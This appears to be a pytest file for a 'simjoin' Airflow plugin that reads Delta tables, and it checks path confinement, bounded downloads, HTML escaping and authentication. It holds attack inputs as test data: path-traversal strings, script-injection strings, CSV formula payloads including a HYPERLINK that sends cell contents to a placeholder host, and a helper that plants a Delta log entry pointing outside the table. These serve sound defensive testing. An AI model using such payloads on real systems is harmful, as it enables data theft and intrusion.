"""The Airflow plugin's reads and pages without Airflow running: real Delta tables written with
deltalake, read back bounded; paths confined to the warehouse; every value escaped; one-line
refusals. The whole plugin behind Airflow's login, in Chromium: tests/e2e/test_airflow_ui.py."""

from __future__ import annotations

import datetime as dt
import os

import numpy as np
import pyarrow as pa
import pytest
from deltalake import CommitProperties, write_deltalake

from simjoin.ui import data, pages

UTC = dt.UTC


def _pairs(n: int, start: int = 0) -> pa.Table:
    ids = np.arange(start, start + n, dtype=np.int64)
    return pa.table({"left_id": ids, "right_id": ids % 7, "score": ids / 10.0,
                     "ts": pa.array(ids * 1_000_000, pa.int64()).cast(pa.timestamp("us", tz="UTC")),
                     "reason": pa.array([f"<b>r{i}</b>" for i in ids])})


@pytest.fixture
def wh(tmp_path, monkeypatch):
    root = tmp_path / "ware house"
    root.mkdir()
    monkeypatch.setenv("SIMJOIN_WAREHOUSE", str(root))
    t = root / "out"
    write_deltalake(t, _pairs(1000), description="simjoin.owner=s2j")
    write_deltalake(t, _pairs(5, 5000), mode="append",
                    commit_properties=CommitProperties(custom_metadata={"userMetadata": '{"snapshot": 1, "unit": 3}'}))
    part = root / "out_quarantine"
    q = pa.table({"id": pa.array([1, 2, 3], pa.int64()), "reason": ["null key k", "late", "dup"],
                  "batch": ["a b", "a b", "c"]})
    write_deltalake(part, q, partition_by=["batch"], description="simjoin.owner=s2j")
    write_deltalake(part, pa.table({"id": pa.array([4], pa.int64()), "reason": ["x"], "batch": ["c"]}),
                    mode="append")
    return str(root)


def test_tables_are_found_under_the_warehouse_and_confined_to_it(wh, tmp_path):
    assert data.warehouse_root() == os.path.realpath(wh)
    assert [data.relative(p) for p in data.find_tables()] == ["out", "out_quarantine"]
    assert data.confine("out") == os.path.join(os.path.realpath(wh), "out")
    for bad, status in (("../", 403), ("/etc", 403), (f"{wh}/../x", 403), ("nope", 404), ("", 400), ("a\0b", 400)):
        with pytest.raises(data.Refused) as e:
            data.confine(bad)
        assert e.value.status == status and "\n" not in str(e.value)
    os.symlink(tmp_path, os.path.join(wh, "link"))  # a link out of the warehouse is outside too
    with pytest.raises(data.Refused, match="outside the warehouse"):
        data.confine("link")


def test_card_history_and_pages_read_the_table_bounded(wh):
    p = data.confine("out")
    c = data.card(p)
    assert (c.version, c.latest, c.rows, c.files, c.owner) == (1, 1, 1005, 2, "s2j")
    assert [n for n, _ in c.schema] == ["left_id", "right_id", "score", "ts", "reason"]
    assert data.card(p, 0).rows == 1000 and data.card(p, 0).latest == 1
    h = data.history(p)
    assert [x["version"] for x in h] == [1, 0] and h[0]["user_metadata"] == '{"snapshot": 1, "unit": 3}'
    whole = data.rows(p, limit=1000).table.column("left_id").to_pylist()  # in the table's file order
    assert sorted(whole + data.rows(p, offset=1000).table.column("left_id").to_pylist()) == \
        [*range(1000), *range(5000, 5005)]
    page = data.rows(p, offset=10, limit=5)
    assert page.table.column("left_id").to_pylist() == whole[10:15] and page.more and page.total == 1005
    last = data.rows(p, version=0, offset=990, limit=50)
    assert last.table.num_rows == 10 and not last.more and last.total == 1000
    added = data.rows(p, versions=[1])  # only what that commit added
    assert added.table.column("left_id").to_pylist() == list(range(5000, 5005)) and added.total == 5
    hit = data.rows(p, column="right_id", value="3", limit=1000)
    assert sorted(hit.table.column("left_id").to_pylist()) == [i for i in [*range(1000), *range(5000, 5005)]
                                                              if i % 7 == 3]
    ts = data.rows(p, column="ts", value="1970-01-01T00:00:07")
    assert ts.table.column("left_id").to_pylist() == [7]
    assert data.rows(p, column="reason", value="<b>r9</b>").table.column("left_id").to_pylist() == [9]


def test_partitioned_tables_keep_their_partition_values(wh):
    p = data.confine("out_quarantine")
    assert sorted(data.rows(p).table.column("id").to_pylist()) == [1, 2, 3, 4]
    got = data.rows(p, versions=[1])
    assert got.table.to_pydict() == {"id": [4], "reason": ["x"], "batch": ["c"]}
    spaced = data.rows(p, versions=[0], column="batch", value="a b")
    assert sorted(spaced.table.column("id").to_pylist()) == [1, 2]


@pytest.mark.parametrize("kw,needle", [
    ({"column": "nope", "value": "1"}, "invalid filter column 'nope': allowed one of left_id"),
    ({"column": "left_id", "value": "1x"}, "invalid filter value '1x' for column left_id: allowed a value of type"),
    ({"column": "ts", "value": "yesterday"}, "invalid filter value 'yesterday' for column ts"),
    ({"version": 7}, "invalid version 7: allowed 0..1"),
    ({"limit": 0}, "invalid limit 0: allowed 1..1000"),
    ({"offset": data.MAX_SCAN_ROWS}, "invalid offset"),
])
def test_bad_requests_are_refused_in_one_line(wh, kw, needle):
    with pytest.raises(data.Refused) as e:
        data.rows(data.confine("out"), **kw)
    assert needle in str(e.value) and "\n" not in str(e.value)


def _body(got: tuple) -> tuple[bytes, str]:
    chunks, media = got
    return b"".join(chunks), media


def test_downloads_are_bounded_csv_or_parquet(wh):
    import io

    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    p = data.confine("out")
    body, media = _body(data.download(p, "csv", limit=3))
    assert media == "text/csv" and pacsv.read_csv(io.BytesIO(body)).num_rows == 3
    body, media = _body(data.download(p, "parquet", column="right_id", value="0", limit=10_000))
    t = pq.read_table(io.BytesIO(body))
    assert media.endswith("parquet") and t.num_rows == sum(1 for i in [*range(1000), *range(5000, 5005)] if i % 7 == 0)
    with pytest.raises(data.Refused, match="invalid format 'xlsx': allowed csv or parquet"):
        data.download(p, "xlsx")
    with pytest.raises(data.Refused, match="invalid limit"):
        data.download(p, "csv", limit=data.MAX_DOWNLOAD_ROWS + 1)


def test_downloads_stream_in_bounded_memory_and_stop_at_the_byte_cap(tmp_path, monkeypatch):
    """Issue 57: a download is capped in bytes as well as rows, and streams batch by batch: wide
    rows (1,024-dimension vectors) never sit in memory whole, and the result is well-formed up to
    the last whole slice."""
    import io

    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    root = tmp_path / "w"
    monkeypatch.setenv("SIMJOIN_WAREHOUSE", str(root))
    n, dim = 20_000, 1024
    vec = pa.FixedSizeListArray.from_arrays(pa.array(np.random.default_rng(1).random(n * dim)), dim)
    write_deltalake(root / "vecs", pa.table({"id": pa.array(np.arange(n), pa.int64()), "vector": vec}))
    p = data.confine("vecs")
    chunks, _ = data.download(p, "parquet", limit=n, max_bytes=32 * 2**20)
    sizes = [len(c) for c in chunks]  # each chunk is let go before the next is made
    # slices of about DOWNLOAD_CHUNK_BYTES: a batch of 1,024 vectors (8 MiB) is not held as one piece
    assert len(sizes) > 8 and max(sizes) <= 1.25 * data.DOWNLOAD_CHUNK_BYTES
    body, _ = _body(data.download(p, "parquet", limit=n, max_bytes=32 * 2**20))
    t = pq.read_table(io.BytesIO(body))
    assert 0 < t.num_rows < n and t.column("id").to_pylist() == list(range(t.num_rows))  # whole rows
    assert sum(sizes) == len(body) <= 32 * 2**20
    monkeypatch.setenv("SIMJOIN_UI_DOWNLOAD_MAX_BYTES", "5000")
    body, _ = _body(data.download(p, "csv", limit=n))  # the vectors are not CSV: ids only
    assert 0 < pacsv.read_csv(io.BytesIO(body)).num_rows < n and len(body) <= 5000


def test_csv_downloads_neutralise_formulas(tmp_path, monkeypatch):
    """Issue 57: a quarantined producer string ``=HYPERLINK(...)`` (and every cell that begins with
    ``= + - @``, a tab or a carriage return) reaches the spreadsheet as text, prefixed with ``'``;
    numbers and other strings are unchanged; Parquet keeps the values as they are."""
    import io

    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    root = tmp_path / "w"
    monkeypatch.setenv("SIMJOIN_WAREHOUSE", str(root))
    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-3", "@SUM(A1)", "\tx", "\rx", "ok", None, "a=b"]
    write_deltalake(root / "q", pa.table({"id": pa.array(range(-4, len(evil) - 4), pa.int64()), "producer": evil}))
    p = data.confine("q")
    body, _ = _body(data.download(p, "csv"))
    got = pacsv.read_csv(io.BytesIO(body), convert_options=pacsv.ConvertOptions(
        column_types={"producer": pa.string()}, strings_can_be_null=True))
    assert got.column("producer").to_pylist() == ["'" + v for v in evil[:6]] + ["ok", None, "a=b"]
    assert got.column("id").to_pylist() == list(range(-4, len(evil) - 4))  # numbers stay numbers
    body, _ = _body(data.download(p, "parquet"))
    assert pq.read_table(io.BytesIO(body)).column("producer").to_pylist() == evil


def test_pages_escape_every_value(wh):
    p = data.confine("out")
    page = data.rows(p, limit=3)
    html = pages.table_page(data.card(p), "out", data.history(p), page, None, "reason", '"><script>x</script>')
    assert "<script>" not in html and "&lt;b&gt;r" in html and "&quot;&gt;&lt;script&gt;" in html
    assert "<b>" not in html
    idx = pages.index_page({"s2j": [(data.card(p), "a<i>b", ("run<script>", dt.datetime.now(UTC)))]}, "/w<x>",
                           {"s2j": "simjoin_s2j"})
    assert "<i>" not in idx and "<script>" not in idx and "/w&lt;x&gt;" in idx
    assert 'href="/simjoin/run?dag_id=simjoin_s2j&amp;run_id=run%3Cscript%3E"' in idx


def test_the_plugin_app_refuses_a_request_without_airflow_authentication():
    from fastapi.testclient import TestClient

    from simjoin.ui.plugin import NAV_VIEW, RUN_VIEW, SimjoinPlugin, app

    c = TestClient(app)
    for path in ("/", "/table?path=out", "/download?path=out", "/run?dag_id=simjoin_s2j&run_id=x", "/plot"):
        r = c.get(path)
        assert r.status_code == 401, (path, r.status_code, r.text)
    assert SimjoinPlugin.fastapi_apps[0]["url_prefix"] == pages.PREFIX
    assert RUN_VIEW["destination"] == "dag_run" and "{RUN_ID}" in RUN_VIEW["href"] and "{DAG_ID}" in RUN_VIEW["href"]
    assert NAV_VIEW["destination"] == "nav"


def test_a_run_is_shown_the_versions_it_committed_to_each_table_of_its_output(wh):
    """The tables of a hypercube output by the spec's names; the versions committed inside the
    run's time window are the run's (one run holds an output's lock at a time)."""
    import time

    from simjoin.pipeline import get_spec

    params = {"left": f"{wh}/l", "right": f"{wh}/r", "output": f"{wh}/hc/pairs", "key": "k"}
    paths = get_spec("hypercube").make_run(params, "run1").table_paths()
    write_deltalake(paths["output"], _pairs(3), description="simjoin.owner=hypercube")  # an earlier run
    time.sleep(1.2)
    start = dt.datetime.now(UTC)
    time.sleep(1.2)
    write_deltalake(paths["output"], _pairs(2, 10), mode="append")
    write_deltalake(paths["quarantine"], pa.table({"id": [7], "reason": ["null key k"]}))
    time.sleep(1.2)
    end = dt.datetime.now(UTC)
    time.sleep(1.2)
    write_deltalake(paths["output"], _pairs(1, 20), mode="append")  # a later run
    output, tables = data.run_tables("hypercube", params, "run1", start, end)
    assert output == params["output"]
    got = {t.role: t.versions for t in tables}
    assert got == {"output": [1], "quarantine": [0]}, got
    assert data.rows(tables[0].path, versions=got["output"]).table.column("left_id").to_pylist() == [10, 11]
    running = data.run_tables("hypercube", params, "run1", start, None)[1]  # still running: all since start
    assert {t.role: t.versions for t in running}["output"] == [1, 2]


def test_a_run_not_started_yet_claims_no_commit(wh):
    from simjoin.pipeline import get_spec

    params = {"left": f"{wh}/l", "right": f"{wh}/r", "output": f"{wh}/hc/pairs", "key": "k"}
    write_deltalake(get_spec("hypercube").make_run(params, "q").table_paths()["output"], _pairs(3))
    assert [t.versions for t in data.run_tables("hypercube", params, "q", None, None)[1]] == [[]]


def test_the_plugin_reads_without_importing_spark(wh):
    """A fresh interpreter: every read of the plugin's data layer leaves pyspark unimported."""
    import subprocess
    import sys

    code = ("import sys; from simjoin.ui import data; p = data.confine('out'); data.card(p); data.history(p); "
            "data.rows(p, versions=[1]); data.rows(p, column='right_id', value='1'); data.download(p, 'csv'); "
            "data.find_tables(); data.run_tables('hypercube', {'left': 'l', 'right': 'r', 'output': p, 'key': 'k'}, "
            "'r', None, None); print('pyspark' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                         env={**os.environ, "SIMJOIN_WAREHOUSE": wh})
    assert out.returncode == 0 and out.stdout.strip() == "False", out.stderr[-2000:]


def _plant(table: str, version: int, add_path: str, like: str) -> None:
    """A commit that adds ``add_path`` (as a hostile or broken writer could), with ``like``'s size."""
    import json

    entry = {"add": {"path": add_path, "partitionValues": {}, "size": os.path.getsize(like),
                     "modificationTime": 0, "dataChange": True}}
    with open(os.path.join(table, "_delta_log", f"{version:020d}.json"), "x") as fh:
        fh.write(json.dumps({"commitInfo": {"operation": "WRITE", "timestamp": 0}}) + "\n" + json.dumps(entry) + "\n")


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "file-uri", "symlink"])
def test_a_table_whose_log_names_a_file_outside_it_is_refused(wh, tmp_path, kind):
    """Issue 57: a table in the warehouse whose commit adds ``../../secret/s.parquet``, an absolute
    path or a symlink out of it: the page, the run's rows (``versions=``) and the download refuse
    it (403), and no row of the secret file is returned."""
    import pyarrow.parquet as pq

    secret = tmp_path / "secret"
    secret.mkdir()
    pq.write_table(pa.table({"left_id": pa.array([424242], pa.int64())}), secret / "s.parquet")
    t = os.path.join(wh, "evil")
    write_deltalake(t, pa.table({"left_id": pa.array([1], pa.int64())}))
    target = {"absolute": str(secret / "s.parquet"), "file-uri": (secret / "s.parquet").as_uri(),
              "dotdot": os.path.relpath(secret / "s.parquet", t)}.get(kind)
    if kind == "symlink":
        os.symlink(secret / "s.parquet", os.path.join(t, "inside.parquet"))
        target = "inside.parquet"
    assert (kind == "dotdot" and target.startswith("../")) or kind != "dotdot"
    _plant(t, 1, target, str(secret / "s.parquet"))
    for call in (lambda: data.rows(t), lambda: data.rows(t, versions=[1]), lambda: data.download(t, "csv"),
                 lambda: data.download(t, "parquet", versions=[1])):
        with pytest.raises(data.Refused, match=r"outside the table|not a local file") as err:
            call()
        assert err.value.status == 403 and "\n" not in str(err.value)
    assert data.rows(t, version=0).table.column("left_id").to_pylist() == [1]  # before the planted commit


def test_the_nav_page_reads_only_the_timing_rows_of_the_tables_it_shows(tmp_path):
    """Issue 57: the nav page read the whole task-timing table on every view; now only the rows of
    outputs that can hold the tables shown (a table's path, and its path up to each ``_`` or
    ``/``), and the latest run of each."""
    t0 = dt.datetime(2026, 12, 1, tzinfo=UTC)
    rows = [("r1", "/w/a", t0), ("r2", "/w/a", t0 + dt.timedelta(hours=1)), ("r3", "/w/ab", t0),
            ("r4", "/w/b", t0), ("r5", "/w/a/x", t0)]
    timing = str(tmp_path / "timing")
    write_deltalake(timing, pa.table({"run_id": [r[0] for r in rows], "output": [r[1] for r in rows],
                                      "started_at": pa.array([r[2] for r in rows], pa.timestamp("us", tz="UTC"))}))
    got = data.runs_of(["/w/a_quarantine", "/w/a/x/_stats"], timing=timing)
    assert {o: r for o, (r, _) in got.items()} == {"/w/a": "r2", "/w/a/x": "r5"}
    assert data.runs_of([], timing=timing) == {}
    assert set(data.runs_of(None, timing=timing)) == {"/w/a", "/w/ab", "/w/b", "/w/a/x"}
